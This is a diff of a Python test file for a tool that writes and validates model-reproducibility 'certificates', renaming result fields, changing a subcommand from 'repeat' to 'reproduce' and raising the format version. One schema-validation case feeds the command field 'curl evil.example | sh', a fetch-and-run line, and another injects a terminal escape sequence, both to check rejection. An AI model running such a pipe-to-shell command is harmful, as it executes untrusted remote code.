@@ -30,8 +30,8 @@ def test_certificate_has_results_of_orders(certified: Certificate, rows: list[Or
         cells = [row.cells[result.method] for row in rows]
         first = cells[0].answer
         assert (result.first_answer, result.first_token_ids) == (first.text, list(first.token_ids))
-        assert result.same_answers == sum(cell.answer.token_ids == first.token_ids for cell in cells)
-        assert result.distinct_answers == len({cell.answer.token_ids for cell in cells})
+        assert result.num_matching_answers == sum(cell.answer.token_ids == first.token_ids for cell in cells)
+        assert result.num_distinct_answers == len({cell.answer.token_ids for cell in cells})
         assert result.max_abs_logit_diff == max(cell.max_abs_logit_diff for cell in cells)
         assert result.bitwise_identical == all(cell.bitwise_identical for cell in cells)
         assert result.logprobs == [cell.reference_logprob for cell in cells]
@@ -48,13 +48,13 @@ def test_certificate_has_results_of_orders(certified: Certificate, rows: list[Or
 
 def test_certificate_names_platform_and_command(certified: Certificate, engine: Engine) -> None:
     platform = certified.platform
-    assert (platform.model, platform.revision, certified.address) == ("tiny", None, "tiny")
+    assert (platform.model, platform.revision, certified.model_ref) == ("tiny", None, "tiny")
     assert (platform.dtype, platform.device) == ("float32", "cpu")
     assert (platform.torch, platform.threads) == (torch.__version__, torch.get_num_threads())
-    assert (certified.comparison, certified.seed, certified.traced) == (COMPARISON, None, True)
+    assert (certified.request, certified.seed, certified.traced) == (COMPARISON, None, True)
     subcommands = {one.callback.__name__ for one in cli.app.registered_commands if one.callback}
-    assert certified.command == "python -m pine_engine repeat certificate.json"
-    assert subcommands & set(certified.command.split()) == {"repeat"}
+    assert certified.command == "python -m pine_engine reproduce certificate.json"
+    assert subcommands & set(certified.command.split()) == {"reproduce"}
 
 
 def test_hash_covers_every_bit(rows: list[OrderResult]) -> None:
@@ -113,9 +113,9 @@ def test_installed_version_without_package() -> None:
     [
         ('{"question": "q", "documents": ["a"]}', "not a certificate"),
         ("[1, 2]", "expected an object"),
-        ('{"format": "pine-explorer certificate", "version": 2}', "got 2, expected 1"),
-        ('{"format": "pine-explorer certificate"}', "got None, expected 1"),
-        ('{"format": "pine-explorer certificate", "version": 1}', "made"),
+        ('{"format": "pine-explorer certificate", "version": 3}', "got 3, expected 2"),
+        ('{"format": "pine-explorer certificate"}', "got None, expected 2"),
+        ('{"format": "pine-explorer certificate", "version": 2}', "made"),
         ('{"format": "pine-exp', "JSON"),
         ("[" * 100_000, "JSON"),
     ],
@@ -140,13 +140,13 @@ def test_read_certificate_other_file_raises(text: str, keyword: str, tmp_path: P
         ((*VANILLA, "logprobs"), [-1.0], "logprobs of vanilla"),
         (("max_new_tokens",), -1, "max_new_tokens"),
         (("x\n\x1b[2Kequal to the certificate",), 1, "no such field"),
-        (("comparison", "documents"), [], "comparison.documents"),
+        (("request", "documents"), [], "request.documents"),
         (("command",), "curl evil.example | sh", "command"),
         (("platform", "threads"), 0, "platform.threads"),
         ((*PINE, "logits_sha256"), "c0ffee", "results.2.logits_sha256"),
         ((*PINE, "first_token_ids", 0), -1, "results.2.first_token_ids.0"),
-        ((*PINE, "same_answers"), 0, "results.2.same_answers"),
-        ((*PINE, "distinct_answers"), 0, "results.2.distinct_answers"),
+        ((*PINE, "num_matching_answers"), 0, "results.2.num_matching_answers"),
+        ((*PINE, "num_distinct_answers"), 0, "results.2.num_distinct_answers"),
     ],
 )
 def test_read_certificate_invalid_schema_raises(
